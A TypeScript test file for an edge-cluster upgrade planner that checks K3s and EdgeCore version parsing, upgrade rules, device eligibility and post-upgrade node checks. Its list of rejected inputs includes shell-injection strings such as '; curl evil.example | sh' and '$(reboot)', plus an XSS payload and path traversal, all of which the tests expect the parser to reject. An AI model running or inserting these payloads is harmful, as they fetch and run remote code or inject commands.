// SPDX-License-Identifier: Apache-2.0
import fc from 'fast-check';
import type { ActionDevice } from './actionKind';
import { actionKindView } from './actionKindView';
import { parseActionParameters } from './parseActionParameters';
import { chosenKind, judgeCandidate } from './planActions';
import {
  canBeExpected,
  osUpgradeKind,
  whyAlready,
  whyNotAsExpected,
  type ExpectedSystem,
} from './osUpgradeKind';
import { edgeCoreUpgradeKind, k3sUpgradeKind } from './upgradeKinds';
import { whyNotUpgradeEdgeCore, whyNotUpgradeK3s } from './upgradeRules';

const settings = { timeout: 60_000 };
const k3s = k3sUpgradeKind({ ...settings, servers: false });
const edgeCore = edgeCoreUpgradeKind({
  ...settings,
  requireConfirmation: false,
});

describe('the version of an upgrade', () => {
  const takes = (kind: typeof k3s, version: unknown) =>
    'parameters' in parseActionParameters(kind, { version });

  it.each([
    ['v1.34.2+k3s1', true],
    ['v1.9.0+k3s12', true],
    ['v1.34.2', false],
    ['1.34.2+k3s1', false],
    ['v1.34.2+k3s0', false],
    ['v1.034.2+k3s1', false],
    ['v1.34.2-rc1+k3s1', false],
    ['v1.34.2+rke2r1', false],
    ['v1.34.2+k3s1-bad', false],
    ['stable', false],
  ])('K3s %s: %s', (version, expected) => {
    expect(takes(k3s, version)).toBe(expected);
  });

  it.each([
    ['v1.23.1', true],
    ['v1.23.1-beta.0', false],
    ['V1.23.1', false],
    ['v1.23', false],
  ])('EdgeCore %s: %s', (version, expected) => {
    expect(takes(edgeCore, version)).toBe(expected);
  });

  /** What has reached a command line of KubeEdge, and what would trouble YAML, labels or pages. */
  const tricks = [
    '; curl evil.example | sh',
    ' --image evil.example/x',
    '$(reboot)',
    '`reboot`',
    '&& reboot',
    '\n  image: evil',
    '\r\n',
    '\u0000',
    "'",
    '"',
    ': {}',
    '<img src=x onerror=alert(1)>',
    '/../..',
    '\u202e',
    '１',
  ];

  it.each(tricks)('never takes %j, wherever it stands', trick => {
    for (const [kind, version] of [
      [k3s, 'v1.34.2+k3s1'],
      [edgeCore, 'v1.23.1'],
    ] as const) {
      for (let at = 0; at <= version.length; at += 1) {
        const hostile = version.slice(0, at) + trick + version.slice(at);
        expect(takes(kind, hostile)).toBe(false);
      }
    }
  });

  it('lets nothing through but letters, digits, dots and a plus, whatever it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), text => {
        const taken = [text, `v1.2.3${text}`, `v1.2.3+k3s1${text}`].filter(
          version => takes(k3s, version) || takes(edgeCore, version),
        );
        expect(taken.every(version => /^[v\d.+ks]+$/.test(version))).toBe(true);
      }),
    );
  });
});

describe('what K3s may become', () => {
  const agent = { present: 'v1.34.2+k3s1', isServer: false };

  it.each([
    ['a newer build', agent, 'v1.34.2+k3s2', undefined],
    ['a newer version', agent, 'v1.36.0+k3s1', undefined],
    ['the same', agent, 'v1.34.2+k3s1', 'alreadySo'],
    [
      'an older build',
      { ...agent, present: 'v1.34.2+k3s2' },
      'v1.34.2+k3s1',
      'downgrade',
    ],
    ['an older version', agent, 'v1.33.9+k3s1', 'downgrade'],
    [
      'ten is more than nine',
      { ...agent, present: 'v1.34.9+k3s1' },
      'v1.34.10+k3s1',
      undefined,
    ],
    [
      'nobody knows what runs',
      { ...agent, present: undefined },
      'v1.34.3+k3s1',
      'unknownVersion',
    ],
    [
      'nobody can read what runs',
      { ...agent, present: 'dirty' },
      'v1.34.3+k3s1',
      'unknownVersion',
    ],
    [
      'a release after its candidate',
      { ...agent, present: 'v1.34.3-rc1+k3s1' },
      'v1.34.3+k3s1',
      undefined,
    ],
    [
      'as new as the API server',
      { ...agent, apiServer: 'v1.36.3+k3s1' },
      'v1.36.3+k3s1',
      undefined,
    ],
    [
      'newer than the API server',
      { ...agent, apiServer: 'v1.36.3+k3s1' },
      'v1.36.4+k3s1',
      'newerThanServer',
    ],
    [
      'three behind the API server',
      { ...agent, apiServer: 'v1.38.0' },
      'v1.35.0+k3s1',
      undefined,
    ],
    [
      'four behind the API server',
      { ...agent, apiServer: 'v1.39.0' },
      'v1.35.0+k3s1',
      'olderThanServer',
    ],
    [
      'beside an API server that tells nothing',
      { ...agent, apiServer: '' },
      'v1.35.0+k3s1',
      'unknownVersion',
    ],
    [
      'a server, one on',
      { present: 'v1.34.2+k3s1', isServer: true, apiServer: 'v1.34.2+k3s1' },
      'v1.35.0+k3s1',
      undefined,
    ],
    [
      'a server, two on',
      { present: 'v1.34.2+k3s1', isServer: true },
      'v1.36.0+k3s1',
      'skipsVersions',
    ],
  ])('%s', (_case, node, wanted, code) => {
    expect(whyNotUpgradeK3s({ ...node, wanted })?.code).toBe(code);
  });

  it.each([
    ['v1.22.2', 'v1.23.1', undefined],
    ['v1.23.1', 'v1.23.1', 'alreadySo'],
    ['v1.23.1', 'v1.22.2', 'downgrade'],
    [undefined, 'v1.23.1', 'unknownVersion'],
  ])('EdgeCore %s to %s: %s', (present, wanted, code) => {
    expect(whyNotUpgradeEdgeCore(present, wanted)?.code).toBe(code);
  });
});

describe('which devices are upgraded', () => {
  const device: ActionDevice = {
    cluster: 'edge',
    name: 'oslo-pi-01',
    connectivity: 'live',
    isolation: 'none',
    clusterLive: true,
    platform: 'k3s',
    version: 'v1.34.2+k3s1',
    labels: {},
  };
  const server = { 'node-role.kubernetes.io/control-plane': 'true' };
  const atEdge = {
    platform: 'kubeedge',
    version: 'v1.32.10-kubeedge-v1.22.2',
    edgeVersion: 'v1.22.2',
    labels: { 'node-role.kubernetes.io/edge': '' },
  } as const;
  const judge = (
    kind: typeof k3s,
    change: Partial<ActionDevice>,
    version: string,
  ) => {
    const said = judgeCandidate(chosenKind(kind, { version }), {
      device: { ...device, ...change },
      permitted: true,
      open: [],
    });
    return said.verdict === 'now' ? 'now' : said.reason.code;
  };

  it.each<[string, typeof k3s, Partial<ActionDevice>, string]>([
    [
      'notInstalled',
      k3s,
      { unserved: ['plans.upgrade.cattle.io'] },
      'v1.34.3+k3s1',
    ],
    [
      'now',
      k3s,
      { unserved: ['nodeupgradejobs.operations.kubeedge.io'] },
      'v1.34.3+k3s1',
    ],
    [
      'notInstalled',
      edgeCore,
      { ...atEdge, unserved: ['nodeupgradejobs.operations.kubeedge.io'] },
      'v1.23.1',
    ],
    ['now', k3s, {}, 'v1.34.3+k3s1'],
    ['alreadySo', k3s, {}, 'v1.34.2+k3s1'],
    ['deviceAway', k3s, { connectivity: 'offline' }, 'v1.34.3+k3s1'],
    ['held', k3s, { operatorHold: { text: 'audit' } }, 'v1.34.3+k3s1'],
    ['unsuited', k3s, { labels: server }, 'v1.34.3+k3s1'],
    ['unsuited', k3s, atEdge, 'v1.34.3+k3s1'],
    ['unsuited', edgeCore, {}, 'v1.23.1'],
    ['unsuited', edgeCore, { ...atEdge, labels: {} }, 'v1.23.1'],
    ['now', edgeCore, atEdge, 'v1.23.1'],
    ['downgrade', edgeCore, atEdge, 'v1.21.9'],
  ])('%s', (expected, kind, change, version) => {
    expect(judge(kind, change, version)).toBe(expected);
  });

  it('is what the configuration says about servers and clusters', () => {
    const more = k3sUpgradeKind({
      ...settings,
      servers: true,
      clusters: ['edge'],
    });
    expect(judge(more, { labels: server }, 'v1.35.0+k3s1')).toBe('now');
    expect(judge(more, { cluster: 'cloud' }, 'v1.35.0+k3s1')).toBe('unsuited');
  });

  const osUpgrade = { title: 'Debian', version: '13', servers: false };
  const os = osUpgradeKind({
    ...settings,
    upgrades: [
      { ...osUpgrade, name: 'debian', hardware: ['raspberry-pi-5'] },
      {
        ...osUpgrade,
        name: 'lean',
        servers: true,
        clusters: ['edge'],
        expect: { osImage: 'Debian 13', reboot: false },
      },
    ],
  });
  const pi = { hardware: 'raspberry-pi-5', osImage: 'Debian 12' };

  it.each<[string, Partial<ActionDevice>, string]>([
    ['now', pi, 'debian@13'],
    ['unsuited', { hardware: 'jetson-orin-nx' }, 'debian@13'],
    ['unsuited', {}, 'debian@13'],
    ['unsuited', { ...pi, labels: server }, 'debian@13'],
    ['unsuited', { ...atEdge, hardware: 'raspberry-pi-5' }, 'debian@13'],
    ['held', { ...pi, operatorHold: { text: 'audit' } }, 'debian@13'],
    [
      'notInstalled',
      { ...pi, unserved: ['plans.upgrade.cattle.io'] },
      'debian@13',
    ],
    ['now', { labels: server }, 'lean@13'],
    ['unsuited', { cluster: 'cloud' }, 'lean@13'],
    ['alreadySo', { osImage: 'Debian 13' }, 'lean@13'],
  ])('%s: %j, by %s', (expected, change, chosen) => {
    const said = judgeCandidate(chosenKind(os, { upgrade: chosen }), {
      device: { ...device, ...change },
      permitted: true,
      open: [],
    });
    expect(said.verdict === 'now' ? 'now' : said.reason.code).toBe(expected);
  });

  it('offers of the upgrades of a system those that suit the device', () => {
    const offered = (change: Partial<ActionDevice>) =>
      actionKindView(os, { ...device, ...change }).parameters[0].choices?.map(
        ({ value }) => value,
      );
    expect(offered(pi)).toEqual(['debian@13', 'lean@13']);
    expect(offered({})).toEqual(['lean@13']);
    expect(os.unsuited?.({ ...device, cluster: 'cloud' })).toBeDefined();
    expect(os.unsuited?.(device)).toBeUndefined();
    const taken = (upgrade: string) =>
      'parameters' in parseActionParameters(os, { upgrade });
    expect(taken('debian@13')).toBe(true);
    for (const hostile of ['debian', 'debian@13 ', 'Debian@13', '', '@']) {
      expect(taken(hostile)).toBe(false);
    }
  });

  it('shows what a device runs now to whoever chooses', () => {
    const [version] = actionKindView(edgeCore, {
      ...device,
      ...atEdge,
    }).parameters;
    expect(version).toMatchObject({ name: 'version', present: 'v1.22.2' });
    expect(actionKindView(k3s).parameters[0]).not.toHaveProperty('present');
  });
});

describe('what a node tells after an upgrade of its system', () => {
  const before = { osImage: 'D 12', kernelVersion: '6.1', bootId: 'a' };
  const after = { osImage: 'D 13', kernelVersion: '6.12', bootId: 'b' };

  it.each<[Partial<ExpectedSystem>, Partial<typeof after>, boolean]>([
    [{ osImage: 'D 13' }, {}, true],
    [{ osImage: 'D 13' }, { osImage: 'D 13.1' }, false],
    [{ osImage: 'D 13' }, { osImage: undefined }, false],
    // A dot stands for itself, and a parenthesis too.
    [{ osImage: 'D.13' }, {}, false],
    [{ osImage: 'D (13)' }, { osImage: 'D (13)' }, true],
    [{ osImage: '/D 1[3-9].*/' }, { osImage: 'D 14 beta' }, true],
    [{ osImage: '/1[3-9]/' }, {}, false],
    [{ osImage: '/D 12|D 13/' }, { osImage: 'X D 13' }, false],
    [{ kernelVersion: '6.12', osImage: 'D 13' }, {}, true],
    [
      { kernelVersion: '6.12', osImage: 'D 13' },
      { kernelVersion: '6.1' },
      false,
    ],
    [{ reboot: true }, {}, true],
    [{ reboot: true }, { bootId: 'a' }, false],
    [{ reboot: true }, { bootId: undefined }, false],
  ])('%j of %j: %s', (expected, change, isMet) => {
    const expectation = { reboot: false, ...expected };
    const now = { ...after, ...change };
    const why = whyNotAsExpected(expectation, now, before);
    expect(why === undefined).toBe(isMet);
    const already = whyAlready(expectation, now);
    expect(already !== undefined).toBe(isMet && !expected.reboot);
  });

  it('needs the boot id from before', () => {
    const known = whyNotAsExpected({ reboot: true }, after, {});
    expect(known).toBe('It has not booted anew.');
  });

  it.each([
    ['Debian (', true],
    ['/Debian (/', false],
    ['', false],
  ])('can be expected: %j, %s', (text, expected) => {
    expect(canBeExpected(text)).toBe(expected);
  });
});
